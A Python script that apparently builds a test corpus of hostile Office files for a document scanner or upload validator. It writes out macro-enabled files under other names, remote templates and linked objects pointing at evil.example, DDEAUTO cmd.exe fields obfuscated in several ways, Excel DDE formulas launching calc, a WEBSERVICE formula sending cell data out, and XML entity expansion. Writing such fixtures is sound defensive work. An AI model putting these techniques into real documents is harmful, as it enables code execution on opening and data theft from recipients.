"""docx and xlsx that act by themselves, call out, or are something else by structure."""

import io

from msoffcrypto.format.ooxml import OOXMLFile

import raw_zip
from raw_zip import FORMATS, TYPE, docx, xlsx

MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
COMPOUND = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)


def make(corpus):
    documents(corpus)
    fields(corpus)
    workbooks(corpus)
    encrypted(corpus)


def documents(corpus):
    add = corpus.bad
    macros = "application/vnd.ms-word.document.macroEnabled.main+xml"
    project = {"word/vbaProject.bin": COMPOUND}
    add("macros.docx", docx(kind=macros, links=[(f"{MICROSOFT}/vbaProject", "vbaProject.bin")], extra=project),
        "a docm by another name")
    add("macros-unlisted.docx", docx(extra=project), "macros that no list mentions")
    add("macros-renamed.docx", docx(links=[(f"{MICROSOFT}/vbaProject", "theme.xml")], extra={"word/theme.xml": "<a/>"}),
        "a relationship to macros under another name")
    add("template-type.docx", docx(kind=f"{TYPE}.wordprocessingml.template.main+xml"), "a dotx by another name")
    settings = {"word/settings.xml": f'{raw_zip.HEAD}<w:settings xmlns:w="{raw_zip.WORD}"/>'}
    for name, target, why in [
        ("template-web.docx", "https://evil.example/x.dotm", "a template from the web"),
        ("template-share.docx", "\\\\evil.example\\x.dotm", "a template from a network share"),
        ("template-local.docx", "file:///C:\\Users\\x\\Normal.dotm", "a template from the writer's disk"),
    ]:
        rels = {"word/_rels/settings.xml.rels": raw_zip.relationships(("attachedTemplate", target, True))}
        add(name, docx(links=[("settings", "settings.xml")], extra={**settings, **rels}), why)
    for name, link, why in [
        ("linked-picture.docx", ("image", "https://evil.example/x.png", True), "a picture from the web"),
        ("linked-ole.docx", ("oleObject", "https://evil.example/x", True), "an object from the web"),
        ("linked-frame.docx", ("frame", "https://evil.example/x.html", True), "a frame from the web"),
        ("linked-document.docx", ("subDocument", "https://evil.example/x.docx", True), "a part of the text from the web"),
    ]:
        add(name, docx(links=[link]), why)
    add("linked-lower-case.docx", mode_in_lower_case(), "a picture from the web, its mode in another case")
    add("ole-object.docx", docx(links=[("oleObject", "embeddings/oleObject1.bin")],
        extra={"word/embeddings/oleObject1.bin": COMPOUND}), "an OLE object")
    add("ole-object-renamed.docx", docx(extra={"word/media/image1.png": COMPOUND}), "an OLE object called a picture")
    add("embedded-workbook.docx", docx(links=[("package", "embeddings/Microsoft_Excel_Sheet1.xlsx")],
        extra={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx()}), "a workbook inside")
    add("control.docx", docx(links=[("control", "activeX/activeX1.xml")], extra={"word/activeX/activeX1.xml": "<a/>"}), "a control")
    add("html-chunk.docx", docx(links=[("aFChunk", "chunk.html")], extra={"word/chunk.html": "<html><script>1</script></html>"}),
        "a web page as part of the text")
    add("program-inside.docx", docx(extra={"word/media/image1.png": b"MZ" + bytes(200)}), "a program called a picture")
    add("entities.docx", docx(extra={"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'}),
        "a part that defines its own entities")
    add("no-types.docx", without("[Content_Types].xml"), "no list of types")
    add("no-main.docx", without("word/document.xml"), "no main part")
    add("no-relationships.docx", without("_rels/.rels"), "nothing says which part is the main one")
    deep = {"word/_rels/x.xml.rels": "<a>" * 50_000 + "</a>" * 50_000}
    add("deep-xml.docx", docx(extra=deep), "elements nested fifty thousand deep in a list")


def mode_in_lower_case():
    parts = raw_zip.docx_parts(links=[("image", "https://evil.example/x.png", True)])
    name = "word/_rels/document.xml.rels"
    parts[name] = parts[name].replace('"External"', '"external"')
    return raw_zip.write(raw_zip.entries(parts))


def without(name):
    parts = raw_zip.docx_parts()
    del parts[name]
    return raw_zip.write(raw_zip.entries(parts))


def fields(corpus):
    add = corpus.bad
    run = "<w:r><w:instrText>{}</w:instrText></w:r>"
    add("dde.docx", docx(f"<w:p>{run.format(' DDEAUTO cmd.exe x ')}</w:p>"), "a field that starts a program")
    add("dde-split.docx", docx(f"<w:p>{run.format(' D')}{run.format('DE')}{run.format(' cmd x')}</w:p>"), "the same, cut in pieces")
    add("dde-simple.docx", docx('<w:p><w:fldSimple w:instr="ddeauto cmd x"/></w:p>'), "the same, as a simple field")
    add("dde-coded.docx", docx(f"<w:p>{run.format(' &#68;DE cmd x')}</w:p>"), "the same, with letters as numbers")
    add("dde-commented.docx", docx(f"<w:p>{run.format(' D<!-- -->DE cmd x')}</w:p>"), "the same, with a comment inside")
    wide = raw_zip.docx_parts(f"<w:p>{run.format(' DDE cmd x')}</w:p>")
    wide["word/document.xml"] = wide["word/document.xml"].replace("UTF-8", "UTF-16").encode("utf-16")
    add("dde-wide.docx", raw_zip.write(raw_zip.entries(wide)), "the same, in UTF-16")
    header = {"word/header1.xml": f'<w:hdr xmlns:w="{raw_zip.WORD}">{run.format("DDE cmd x")}</w:hdr>'}
    add("dde-header.docx", docx(links=[("header", "header1.xml")], extra=header), "the same, in a header")


def workbooks(corpus):
    add = corpus.bad
    add("macros.xlsx", xlsx(kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "an xlsm by another name")
    add("macro-sheet.xlsx", xlsx(links=[(f"{MICROSOFT}/xlMacrosheet", "macrosheets/sheet1.xml")],
        extra={"xl/macrosheets/sheet1.xml": "<a/>"}), "a macro sheet")
    add("connections.xlsx", xlsx(links=[("connections", "connections.xml")], extra={"xl/connections.xml": "<connections/>"}),
        "a data connection")
    add("external-link.xlsx", xlsx(links=[("externalLink", "externalLinks/externalLink1.xml")],
        extra={"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'}),
        "a link that starts a program")
    add("dde-formula.xlsx", xlsx('<c r="B1"><f>cmd|\'/c calc\'!A0</f></c>'), "a formula that starts a program")
    add("web-formula.xlsx", xlsx('<c r="B1"><f>_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)</f></c>'),
        "a formula that calls the web")
    add("dde-name.xlsx", xlsx(names="<definedNames><definedName name=\"x\">cmd|'/c calc'!A0</definedName></definedNames>"),
        "a name that starts a program")
    add("binary-type.xlsx", xlsx(kind="application/vnd.ms-excel.sheet.binary.macroEnabled.main"), "an xlsb by another name")
    add("query.xlsx", xlsx(extra={"xl/_rels/queryTable1.xml.rels": raw_zip.relationships(
        (f"{FORMATS}/x/2006/relationships/anything", "http://evil.example/x", True))}), "a relationship to the web of an unknown kind")


def encrypted(corpus):
    for name, make_file in (("encrypted.docx", docx), ("encrypted.xlsx", xlsx)):
        out = io.BytesIO()
        plain = OOXMLFile(io.BytesIO(make_file()))
        plain.encrypt("secret", out)
        corpus.bad(name, out.getvalue(), "needs a password: the package is inside a compound file")
